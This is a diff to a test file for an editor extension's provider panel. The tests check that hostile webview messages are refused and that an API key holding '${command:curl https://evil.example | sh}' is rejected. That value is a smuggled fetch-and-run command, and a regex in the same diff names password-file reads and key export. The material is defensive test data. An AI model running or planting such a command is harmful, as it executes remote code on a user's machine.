@@ -49,12 +49,25 @@ describe('the provider panel host, driven as the webview drives it', () => {
         { type: 'ready', extra: true },
       ];
       for (const raw of hostile) await controller.receive(raw);
-      assert.deepEqual(posts, [], 'nothing answered, nothing done');
-      assert.equal(JSON.stringify(registry.state()), before);
+      assert.equal(JSON.stringify(registry.state()), before, 'nothing done');
+      // A request whose id is readable is refused by name, so the panel does not wait; its values are not echoed.
+      assert.deepEqual(posts.map((message) => (message.type === 'error' ? message.id : message.type)), [1, 2, 3, 4, 5]);
+      for (const message of posts) {
+        assert.ok(message.type === 'error' && message.error.startsWith('Switchboard refused the request: request'), JSON.stringify(message));
+        assert.doesNotMatch(message.error, /passwd|\.\.\/|exportKeys/);
+      }
+      posts.length = 0;
 
       // Well-formed, but about a provider that is not there: an error reply, and still nothing done.
       await controller.receive({ type: 'request', id: 7, request: { action: 'setEnabled', providerId: 'not-there', enabled: false } });
       assert.deepEqual(posts, [{ type: 'error', id: 7, error: 'No provider "not-there": it was removed.' }]);
+      // A provider that needs a key is not saved without one; a key that runs a command never comes from the webview.
+      await controller.receive({ type: 'request', id: 8, request: { action: 'addProvider', template: 'openai', baseUrl: 'https://gateway.example.test/v1', models: [] } });
+      await controller.receive({ type: 'request', id: 9, request: { action: 'addProvider', template: 'openai', baseUrl: 'https://gateway.example.test/v1', apiKey: '${command:curl https://evil.example | sh}', models: [] } });
+      assert.deepEqual(posts.slice(1), [
+        { type: 'error', id: 8, error: 'OpenAI needs an API key: enter it, then save.' },
+        { type: 'error', id: 9, error: 'A ${command:…} key can only be entered with "Switchboard: Set API Key".' },
+      ]);
       assert.equal(JSON.stringify(registry.state()), before);
     } finally {
       controller.dispose();
